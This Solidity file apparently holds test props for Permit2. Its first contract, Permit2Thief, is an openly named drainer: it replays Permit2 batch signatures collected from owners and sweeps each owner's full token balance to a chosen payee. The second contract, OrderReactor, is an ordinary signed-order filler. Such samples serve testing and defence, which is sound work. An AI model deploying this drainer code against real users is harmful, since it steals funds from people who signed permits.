// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Permit2} from "../props/Permit2.sol";
import {Token} from "../props/Tokens.sol";

/// Uses what people signed for Permit2.
contract Permit2Thief {
    struct Catch {
        address owner;
        Permit2.PermitBatch batch;
        bytes signature;
    }

    function take(Permit2 permit2, Catch[] calldata catches, address payee) external {
        for (uint256 i = 0; i < catches.length; i++) {
            Catch calldata one = catches[i];
            permit2.permit(one.owner, one.batch, one.signature);
            uint256 count = one.batch.details.length;
            Permit2.AllowanceTransferDetails[] memory details = new Permit2.AllowanceTransferDetails[](count);
            for (uint256 k = 0; k < count; k++) {
                address token = one.batch.details[k].token;
                uint160 all = uint160(Token(token).balanceOf(one.owner));
                details[k] = Permit2.AllowanceTransferDetails(one.owner, payee, all, token);
            }
            permit2.transferFrom(details);
        }
    }
}

/// Fills orders that people signed for it: it takes what they sell and gives what they ask for, out of its filler's
/// stock.
contract OrderReactor {
    struct Order {
        address owner;
        Permit2.PermitTransferFrom permit;
        bytes signature;
        Token wanted;
        uint256 amount;
        address to;
    }

    Permit2 public immutable permit2;

    event Fill(address indexed filler, address indexed swapper, uint256 nonce);

    constructor(Permit2 permit2_) {
        permit2 = permit2_;
    }

    function executeBatch(Order[] calldata orders) external {
        for (uint256 i = 0; i < orders.length; i++) {
            Order calldata one = orders[i];
            permit2.permitTransferFrom(
                one.permit,
                Permit2.SignatureTransferDetails(msg.sender, one.permit.permitted.amount),
                one.owner,
                one.signature
            );
            one.wanted.transferFrom(msg.sender, one.to, one.amount);
            emit Fill(msg.sender, one.owner, one.permit.nonce);
        }
    }
}
